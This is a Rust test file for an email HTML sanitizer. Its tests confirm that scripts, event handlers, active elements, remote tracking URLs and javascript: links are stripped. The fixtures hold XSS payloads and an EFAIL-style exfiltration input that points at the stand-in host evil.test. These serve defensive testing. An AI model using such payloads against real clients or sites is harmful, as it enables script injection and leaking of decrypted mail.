use super::*;

fn body(html: &str) -> SafeBody {
    render_html(html, &[], &[])
}

/// The part between `<body>` and `</body>` of a rendered document.
fn inner(b: &SafeBody) -> &str {
    let start = b.document.find("<body>").unwrap() + 6;
    let end = b.document.rfind("</body>").unwrap();
    &b.document[start..end]
}

#[test]
fn scripts_handlers_and_active_elements_are_gone() {
    let b = body(
        r#"<p onclick="alert(1)">hi</p><script>alert(2)</script><svg onload="x()"><script>y()</script></svg>
        <form action="https://evil.test/"><input name=a><button>go</button></form>
        <iframe src="https://evil.test/f"></iframe><object data="https://evil.test/o"></object>
        <embed src="https://evil.test/e"><meta http-equiv="refresh" content="0;url=https://evil.test/">
        <base href="https://evil.test/"><link rel="prefetch" href="https://evil.test/p">"#,
    );
    let html = inner(&b).to_ascii_lowercase();
    for bad in [
        "script",
        "onclick",
        "onload",
        "<svg",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<embed",
        "<meta",
        "<base",
        "<link",
        "evil.test",
        "refresh",
    ] {
        assert!(!html.contains(bad), "{bad:?} survived in {html}");
    }
    assert!(html.contains("hi"));
    // iframe, object, embed, link: four remote references dropped.
    assert_eq!(b.blocked_remote, 4, "{b:?}");
}

#[test]
fn remote_images_and_css_urls_are_blocked_and_counted() {
    let b = body(
        r#"<img src="https://track.test/p.gif" alt="pixel"><img src="//track.test/q.gif">
        <div style="background:url('https://track.test/bg')">x</div>
        <p style="color: red">red</p>
        <style>@import url("https://track.test/s.css"); body { background: url(https://track.test/b) }</style>
        <table background="https://track.test/t.png"><tr><td>c</td></tr></table>"#,
    );
    let html = inner(&b);
    assert!(!html.contains("track.test"), "{html}");
    assert!(!html.contains("url("), "{html}");
    assert!(
        html.contains(r#"style="color: red""#),
        "harmless styles stay: {html}"
    );
    // two images, one style attribute, two url( in the block (one of them
    // @import's), one background=
    assert_eq!(b.blocked_remote, 6, "{b:?}");
}

#[test]
fn links_cannot_navigate_and_are_listed_with_their_real_target() {
    let b = body(
        r#"<a href="https://bank.example/login">https://bank.test/</a>
        <a href="javascript:alert(1)">js</a><a href="data:text/html,<script>x</script>">data</a>
        <a href="mailto:a@b.test">mail</a><a href="https://bank.example/login">again</a>"#,
    );
    let html = inner(&b);
    assert_eq!(b.links, ["https://bank.example/login", "mailto:a@b.test"]);
    assert!(
        html.contains(r##"<a href="#link-1">https://bank.test/</a>"##),
        "{html}"
    );
    assert!(html.contains(r##"<a href="#link-2">mail</a>"##), "{html}");
    assert!(html.contains(r##"<a href="#link-1">again</a>"##), "{html}");
    assert!(!html.contains("javascript"), "{html}");
    assert!(!html.contains("data:"), "{html}");
    assert!(html.contains("<a>js</a>"), "{html}");
}

#[test]
fn cid_images_are_inlined_from_the_message_and_svg_is_not() {
    let png = InlineImage {
        content_id: "Logo@x".into(),
        content_type: "image/png".into(),
        bytes: vec![0x89, b'P', b'N', b'G'],
    };
    let svg = InlineImage {
        content_id: "vec@x".into(),
        content_type: "image/svg+xml".into(),
        bytes: b"<svg onload='x()'/>".to_vec(),
    };
    let b = render_html(
        r#"<img src="cid:logo@x"><img src="cid:vec@x"><img src="cid:missing@x"><img src="data:image/svg+xml;base64,PHN2Zz4=">"#,
        &[png, svg],
        &[],
    );
    let html = inner(&b);
    assert!(
        html.contains(r#"src="data:image/png;base64,iVBORw==""#),
        "{html}"
    );
    assert_eq!(html.matches("src=").count(), 1, "{html}");
    assert_eq!(b.blocked_remote, 0);
}

#[test]
fn the_document_has_its_own_strict_policy() {
    let b = body("<p>x</p>");
    assert!(b.document.starts_with("<!DOCTYPE html>"));
    assert!(b.document.contains(&format!(r#"content="{FRAME_CSP}""#)));
    assert!(FRAME_CSP.starts_with("default-src 'none'"));
    assert!(!FRAME_CSP.contains("http"));
}

#[test]
fn efail_style_wrapping_cannot_exfiltrate() {
    // An attacker wraps an encrypted part between an unclosed attribute and
    // its end, hoping the decrypted text becomes part of a URL.
    let b = body(
        "<img src=\"https://evil.test/?secret=\nDECRYPTED PLAINTEXT\n\"><a href=\"https://evil.test/?",
    );
    let html = inner(&b);
    assert!(!html.contains("evil.test"), "{html}");
    assert_eq!(b.blocked_remote, 1);
}

#[test]
fn text_is_escaped_and_its_urls_listed() {
    let b = render_text(
        "see <b>https://a.test/x</b>, and https://a.test/x. Also http://b.test/y!",
        &[],
    );
    let html = inner(&b);
    assert!(html.contains("&lt;b&gt;"), "{html}");
    assert_eq!(b.links, ["https://a.test/x", "http://b.test/y"]);
}

#[test]
fn highlights_mark_text_but_never_tags_attributes_or_entities() {
    let b = render_html(
        r#"<p title="budget">The Budget &amp; amp <a href="https://budget.test/">budget link</a></p>"#,
        &[],
        &["budget".into(), "amp".into()],
    );
    let html = inner(&b);
    assert!(html.contains(r#"title="budget""#), "{html}");
    assert!(
        html.contains("The <mark>Budget</mark> &amp; <mark>amp</mark>"),
        "{html}"
    );
    assert!(html.contains("<mark>budget</mark> link"), "{html}");
    let t = render_text("a <budget> b", &["budget".into()]);
    assert!(
        inner(&t).contains("&lt;<mark>budget</mark>&gt;"),
        "{}",
        t.document
    );
}
